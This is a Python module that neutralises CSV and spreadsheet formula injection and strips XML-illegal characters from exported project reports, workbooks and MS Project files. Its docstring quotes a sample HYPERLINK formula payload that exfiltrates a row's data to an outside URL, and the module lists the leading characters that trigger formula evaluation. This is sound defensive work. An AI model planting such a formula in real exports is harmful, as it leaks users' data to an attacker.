"""Inert export files: a cell from user or source data is data in Excel, never a formula, and always opens.

Every download the pages offer (the risk register, the plan's WBS sheet and
MS Project XML, the monthly hours report) passes its text through
`inert_value`, and every workbook through `inert_workbook`, because a title
is whatever someone typed into Jira, a timesheet or a form:

* A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return is what Excel and LibreOffice evaluate as a formula
  (``=HYPERLINK("http://…"&B2,"x")`` phones home with the row's data).
  In CSV, which has no cell types, such a cell gets a leading single quote,
  as OWASP's CSV-injection guidance says: spreadsheets show it as text, and
  the quote is visible to a program reading the file. In xlsx every text
  cell is written as a string cell (``t="inlineStr"``), which Excel never
  evaluates, so the text is kept exactly as it was, quote-free; openpyxl
  would otherwise store ``=…`` as a live formula and ``#N/A`` as an error.
* Only text is neutralised: numbers, dates and booleans keep their types,
  so a negative estimate stays the number −5 rather than the text "'-5".
* Characters XML 1.0 cannot carry (NUL and the other C0 controls except tab,
  line feed and carriage return, lone surrogates, U+FFFE and U+FFFF) are
  removed: openpyxl refuses them (its ``ILLEGAL_CHARACTERS_RE`` is the C0
  part), MS Project XML with one does not parse, and CSV readers stop at a
  NUL. One pattern serves all three formats.
"""

from __future__ import annotations

import io
import re
from typing import Any, Final

import polars as pl
from openpyxl import Workbook

FORMULA_LEADS: Final[tuple[str, ...]] = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet evaluate a cell (OWASP, CSV injection)."""
CSV_QUOTE: Final = "'"
XML_ILLEGAL_RE: Final = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
"""Every character outside XML 1.0's `Char` production."""


def inert_value(value: Any, *, csv: bool) -> Any:
    """A cell as it may be written: text without XML-illegal characters, quoted when a CSV would evaluate it.

    Anything that is not a string is returned as it is, so numbers stay numbers.
    """
    if not isinstance(value, str):
        return value
    text = XML_ILLEGAL_RE.sub("", value)
    return CSV_QUOTE + text if csv and text.startswith(FORMULA_LEADS) else text


def inert_frame(frame: pl.DataFrame, *, csv: bool) -> pl.DataFrame:
    """Every text column of `frame` through `inert_value`; other columns untouched."""
    text_columns = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.col(name).map_elements(lambda value: inert_value(value, csv=csv), return_dtype=pl.String)
        for name in text_columns
    )


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """`frame` as an inert CSV, in UTF-8 with a byte-order mark so Excel opens Chinese text on double-click."""
    return inert_frame(frame, csv=True).write_csv().encode("utf-8-sig")


def inert_workbook(book: Workbook) -> bytes:
    """The workbook saved with every text cell a string cell: no formula or error cell comes from data.

    The cells' text must already have been through `inert_value` (openpyxl
    refuses illegal characters when a value is assigned). Number formats,
    widths and frozen panes are kept.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
